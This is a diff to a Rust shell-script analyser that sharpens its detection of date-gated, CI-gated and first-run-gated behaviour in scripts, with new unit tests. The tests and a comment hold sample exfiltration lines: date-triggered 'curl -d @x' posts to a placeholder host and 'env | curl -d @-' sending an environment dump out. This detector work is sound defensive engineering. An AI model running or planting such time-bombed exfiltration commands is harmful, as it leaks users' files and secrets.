@@ -6,7 +6,10 @@
 //! Pipelines connect stages through synthetic `$pipe_N` bindings so that
 //! `env | curl -d @-` is a flow from an environment dump to a network send.
 
-use super::indicators::{URL_RE, classify_path, classify_url, is_secret_env};
+use super::indicators::{
+    TimeVal, URL_RE, classify_path, classify_url, is_date_gate, is_secret_env, reads_now_sh,
+    time_value,
+};
 use super::treesitter::{self, named_children, text, unescape};
 use super::{Lang, Sink, Src};
 use crate::evidence::{Evidence, Op, Origin, Tag};
@@ -115,6 +118,7 @@ pub fn extract(src: &Src, sink: &mut Sink) {
         funcs: HashMap::new(),
         sourced: Vec::new(),
         cur_fn: None,
+        times: HashMap::new(),
     };
     cx.collect_functions(tree.root_node());
     cx.vars.insert("HOME".into(), "~".into());
@@ -148,6 +152,8 @@ struct Cx<'s, 'a> {
     sourced: Vec<String>,
     /// The function being analysed (its `$1`.. are parameters).
     cur_fn: Option<String>,
+    /// Variables holding the current time or an absolute date constant.
+    times: HashMap<String, TimeVal>,
 }
 
 /// A resolved word: its value and whether part of it is unknown at scan time.
@@ -239,6 +245,13 @@ impl<'s, 'a> Cx<'s, 'a> {
                 let before = self.sink.items.len();
                 for ch in named_children(node) {
                     self.block(ch, flags, depth + 1);
+                }
+                if let Some(key) = &key {
+                    for e in &mut self.sink.items[before..] {
+                        if e.func.is_none() {
+                            e.func = Some(key.clone());
+                        }
+                    }
                 }
                 // A shell function returns what it prints: values it reads
                 // or fetches are its result.
@@ -379,7 +392,9 @@ impl<'s, 'a> Cx<'s, 'a> {
 
     fn gate_of(&self, cond: &str) -> Option<Tag> {
         let c = cond.to_lowercase();
-        if c.contains("date") || c.contains("epochseconds") || c.contains("$(date") {
+        // `date` as a command compared with a fixed date; not a substring
+        // (`$candidate`, `validate_number`) and not a relative expiry check.
+        if is_date_gate(cond, reads_now_sh, &self.times) {
             Some(Tag::DateGate)
         } else if c.contains("$ci")
             || c.contains("github_actions")
@@ -391,7 +406,9 @@ impl<'s, 'a> Cx<'s, 'a> {
         {
             Some(Tag::EnvGate)
         } else if c.contains("-f ")
-            && (c.contains("/.") || c.contains("marker") || c.contains("first"))
+            && (c.contains("marker")
+                || c.contains("first")
+                || (c.contains("/.") && (c.contains("! -f") || c.contains("!-f"))))
         {
             Some(Tag::FirstRun)
         } else {
@@ -482,6 +499,14 @@ impl<'s, 'a> Cx<'s, 'a> {
         };
         let w = self.word(value);
         self.vars.insert(name.clone(), w.value.clone());
+        match time_value(self.t(value), reads_now_sh) {
+            Some(t) => {
+                self.times.insert(name.clone(), t);
+            }
+            None => {
+                self.times.remove(&name);
+            }
+        }
         // Work inside `X=$(...)` produces `$X`.
         let mut f = flags.clone();
         f.bind = Some(format!("${name}"));
@@ -2340,6 +2365,29 @@ mod tests {
 
     fn ops(code: &str) -> Vec<Op> {
         run(code).iter().map(|e| e.op).collect()
+    }
+
+    #[test]
+    fn date_gates_need_the_date_command_and_a_fixed_date() {
+        for code in [
+            "if [ $(date +%Y) -ge 2026 ]; then curl -d @x https://a.example/u; fi",
+            "NOW=$(date +%s)\nif [ \"$NOW\" -gt 1767225600 ]; then curl -d @x https://a.example/u; fi",
+        ] {
+            let ev = run(code);
+            assert!(
+                ev.iter()
+                    .any(|e| e.op == Op::NetSend && e.has(Tag::DateGate)),
+                "{code}: {ev:#?}"
+            );
+        }
+        for code in [
+            "for candidate in a b; do\n  if [[ ! -f \"$candidate\" ]]; then curl -d @x https://a.example/u; fi\ndone",
+            "if ! validate_number \"$D\"; then curl -d @x https://a.example/u; fi",
+            "if [ $(date +%s) -gt $((EXPIRES - 60)) ]; then curl -d @x https://a.example/u; fi",
+        ] {
+            let ev = run(code);
+            assert!(!ev.iter().any(|e| e.has(Tag::DateGate)), "{code}: {ev:#?}");
+        }
     }
 
     #[test]
